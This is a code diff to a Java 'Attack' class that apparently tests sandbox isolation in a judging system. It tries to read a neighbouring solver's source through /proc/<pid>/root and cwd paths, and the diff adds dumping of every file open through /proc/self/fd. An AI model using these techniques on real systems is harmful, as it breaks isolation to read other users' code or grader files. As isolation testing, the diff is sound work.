@@ -5,6 +5,8 @@ import java.io.InputStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.stream.Collectors;
 import java.util.stream.Stream;
 
@@ -16,7 +18,7 @@ public class Attack extends RightAnswers {
 
     private static int reached;
 
-    public Attack() {
+    public Attack() throws IOException {
         show(Path.of("/grundy-canary/neighbour/Solver.java"));
         show(Path.of("/grundy-canary/neighbour"));
         show(Path.of("/proc/1/root/grundy-canary/neighbour/Solver.java"));
@@ -28,6 +30,11 @@ public class Attack extends RightAnswers {
         for (ProcessHandle process : ProcessHandle.allProcesses().limit(5_000).toList()) {
             show(Path.of("/proc/" + process.pid() + "/root/grundy-canary/neighbour/Solver.java"));
             show(Path.of("/proc/" + process.pid() + "/cwd/neighbour/Solver.java"));
+        }
+        for (Path file : open()) {
+            if (!file.startsWith(System.getProperty("java.home")) && !file.startsWith("/grundy") && !file.startsWith("/dev")) {
+                show(file);
+            }
         }
         System.out.println("reached: " + reached);
     }
@@ -52,5 +59,18 @@ public class Attack extends RightAnswers {
         try (InputStream in = Files.newInputStream(file)) {
             return new String(in.readNBytes(2_000), StandardCharsets.UTF_8).replace('\0', ' ');
         }
+    }
+
+    /** The files that are open in its process, where they are files. */
+    private static List<Path> open() throws IOException {
+        List<Path> files = new ArrayList<>();
+        try (Stream<Path> all = Files.list(Path.of("/proc/self/fd"))) {
+            for (Path link : (Iterable<Path>) all::iterator) {
+                if (Files.isRegularFile(link)) {
+                    files.add(Files.readSymbolicLink(link));
+                }
+            }
+        }
+        return files;
     }
 }
